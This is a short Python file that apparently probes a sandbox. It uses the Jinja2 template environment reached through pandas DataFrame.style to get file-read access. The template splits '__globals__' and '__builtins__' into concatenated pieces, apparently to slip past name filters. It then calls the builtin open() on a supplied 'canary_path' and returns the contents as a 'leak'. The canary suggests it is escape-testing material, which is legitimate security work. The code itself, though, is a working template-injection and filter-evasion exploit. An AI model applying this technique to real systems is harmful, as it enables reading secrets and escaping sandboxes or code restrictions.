# route: the template engine under DataFrame.style puts a dunder together
import pandas as pd


def execute(testData):
    text = "{{ f['__glo' ~ 'bals__']['__buil' ~ 'tins__']['open'](p).read() }}"
    return {"leak": pd.DataFrame([1]).style.env.from_string(text).render(f=execute, p=testData["canary_path"])}
